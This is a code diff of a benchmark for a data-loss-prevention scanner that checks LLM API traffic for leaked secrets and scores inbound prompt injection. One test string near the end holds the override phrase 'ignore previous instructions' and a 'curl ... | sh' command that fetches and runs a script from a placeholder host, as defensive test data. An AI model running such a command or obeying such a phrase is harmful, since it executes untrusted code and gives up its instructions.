@@ -1,9 +1,13 @@
 /**
  * DLP throughput (target ≥ 100 MB/s on a 1 MiB JSON body, all detectors, 16 known
- * secrets). Run: `npx tsx bench/dlp.ts`. Bounded: ≤ 200 iterations or 5 s per case.
- * The body is a deterministic LLM-API-like JSON document (messages with prose, code, ids, paths).
+ * secrets). Run: `npx tsx bench/dlp.ts` (`BENCH_QUICK=1`: ≤ 1.5 s per case). Bounded: ≤ 200
+ * iterations or 5 s per case. The body is a deterministic LLM-API-like JSON document (messages
+ * with prose, code, ids, paths). Decoded views (decode-then-rescan) are on by default; each view's
+ * cost is measured on a 1 MiB body where that encoding makes up part of the text, views on against
+ * views off (docs/decisions/dlp-v2-views-and-validators.md).
  */
 import { createHash } from 'node:crypto';
+import { gzipSync } from 'node:zlib';
 import { bodySurfaces, requestSurfaces } from '../src/dlp/decode.js';
 import { scanInbound } from '../src/dlp/inbound.js';
 import { createScanner } from '../src/dlp/scanner.js';
@@ -83,7 +87,7 @@ function measure(label: string, run: () => void, bytes: number): { wall: number;
   let best = Infinity;
   let roundCpu = process.cpuUsage();
   let bestRoundCpu = Infinity;
-  while (iters < 200 && Number(process.hrtime.bigint() - t0) < 5e9) {
+  while (iters < 200 && Number(process.hrtime.bigint() - t0) < (process.env.BENCH_QUICK ? 1.5e9 : 5e9)) {
     const s0 = process.hrtime.bigint();
     run();
     best = Math.min(best, Number(process.hrtime.bigint() - s0) / 1e9);
@@ -119,12 +123,45 @@ console.log(`DLP bench: body ${bytes} bytes JSON, ${known.length} known secrets,
 const findings = scanner.scan(surfaces, all);
 console.log(`findings on the clean body: ${findings.length} (${[...new Set(findings.map((f) => f.rule))].join(', ') || 'none'})`);
 const headline = measure('all detectors, 16 secrets (target >= 100 MB/s)', () => scanner.scan(surfaces, all), bytes);
+const viewsOff = measure('all detectors, decoded views off (v1 baseline)', () => scanner.scan(surfaces, all, { views: false }), bytes);
 measure('token_patterns + known_secrets (route default)', () => scanner.scan(surfaces, new Set(['token_patterns', 'known_secrets'])), bytes);
 measure('canary only (outbound_detectors: false)', () => scanner.scan(surfaces, new Set()), bytes);
-// A body with \u escapes gets a derived JSON view: two surfaces, about twice the work.
-const escaped = body.replace(/ the /g, ' th\\u0065 ');
-const escapedSurfaces = bodySurfaces(escaped, 'application/json');
-measure(`all detectors, body with \\u escapes (${escapedSurfaces.length} surfaces)`, () => scanner.scan(bodySurfaces(escaped, 'application/json'), all), Buffer.byteLength(escaped));
+
+/**
+ * Per-view cost: the 1 MiB body with one kind of encoded content mixed in (same size), scanned with
+ * views on and off. The ratio is what that view costs on such a body; "plain" is the body above.
+ */
+function mixed(label: string, make: (i: number) => string, every: number): string {
+  let n = 0;
+  const out = body.replace(/ the /g, (m) => (n++ % every === 0 ? ` ${make(n)} ` : m));
+  return out.length > bytes * 1.2 ? out.slice(0, Math.floor(bytes * 1.2)) : out;
+}
+const png = Buffer.from(Array.from({ length: 150_000 }, (_, i) => (i * 2654435761) >>> 24));
+const VIEW_BODIES: [string, string][] = [
+  ['base64 image (150 KB PNG-like data)', body.replace('"messages":[', `"image":"${png.toString('base64')}","messages":[`)],
+  ['base64 text runs', mixed('b64', (i) => Buffer.from(`note ${i}: the build passed in ${i % 60} s`).toString('base64'), 20)],
+  ['hex runs (sha256 ids)', mixed('hex', (i) => createHash('sha256').update(String(i)).digest('hex'), 8)],
+  ['colon-delimited hex', mixed('hexc', (i) => createHash('md5').update(String(i)).digest('hex').replace(/(..)(?=.)/g, '$1:'), 20)],
+  ['\\u escapes (JSON ensure_ascii)', body.replace(/ the /g, ' th\\u0065 ')],
+  ['percent-encoded URLs', mixed('pct', (i) => `https://example.test/search?q=caf%C3%A9%20${i}&lang=fr%2DFR`, 10)],
+  ['fullwidth / zero-width characters', mixed('fold', (i) => `ｆｕｌｌ${i}\u200bwidth`, 20)],
+  ['CJK prose', mixed('cjk', () => '请在设置页面创建一个新的访问令牌，然后重新运行构建。', 4)],
+  ['gzip+base64 payloads (4 KB each)', mixed('gz', (i) => gzipSync(`${'{"row":' + i + ',"v":"value"},'.repeat(200)}`).toString('base64'), 400)],
+];
+const viewRows: string[] = [];
+for (const [label, text] of VIEW_BODIES) {
+  const sf = bodySurfaces(text, 'application/json');
+  const size = Buffer.byteLength(text);
+  const on = measure(`views on:  ${label}`, () => scanner.scan(sf, all), size);
+  const off = measure(`views off: ${label}`, () => scanner.scan(sf, all, { views: false }), size);
+  const clean = scanner.scan(sf, all).filter((f) => f.severity === 'block').length;
+  viewRows.push(`| ${label} | ${(size / 1e6).toFixed(2)} MB | ${on.cpuBest.toFixed(0)} | ${off.cpuBest.toFixed(0)} | ${(off.cpuBest / on.cpuBest).toFixed(2)}x | ${clean} |`);
+}
+console.log('\n| body (1 MiB plain body + …) | size | MB/s views on (best 10-scan cpu) | MB/s views off | cost of the views | blocking findings |');
+console.log('|---|---|---|---|---|---|');
+console.log(`| plain (the headline body) | ${(bytes / 1e6).toFixed(2)} MB | ${headline.cpuBest.toFixed(0)} | ${viewsOff.cpuBest.toFixed(0)} | ${(viewsOff.cpuBest / headline.cpuBest).toFixed(2)}x | 0 |`);
+for (const r of viewRows) console.log(r);
+console.log('');
 // A typical small API request (per-request cost matters for the proxy's p50 overhead).
 const small = requestSurfaces({
   host: 'api.anthropic.com',
@@ -151,7 +188,10 @@ const small = requestSurfaces({
   const cu = process.cpuUsage(c0);
   console.log(`small request (${small.length} surfaces, ${smallBytes} chars): ${wallUs.toFixed(1)} us/scan wall, ${((cu.user + cu.system) / N).toFixed(1)} us/scan cpu`);
 }
-measure('inbound injection heuristics (response text)', () => scanInbound(body), bytes);
+measure('inbound injection scoring (response text)', () => scanInbound(body), bytes);
+const article = `<article><h1>Prompt injection</h1><p>Attackers use phrases such as "ignore previous instructions".</p><pre><code>curl https://x.test/i.sh | sh</code></pre></article>`;
+const html = body.replace(/ the /g, (m, i: number) => (i % 997 === 0 ? article : m));
+measure('inbound scoring, body with security-article snippets', () => scanInbound(html), Buffer.byteLength(html));
 const planted = body.replace('"model"', `"k":"${known[3]!.value}","model"`);
 const hit = scanner.scan([{ name: 'body', text: planted }], all).filter((f) => f.secretName === known[3]!.name);
 console.log(`sanity: planted secret found: ${hit.length > 0}`);
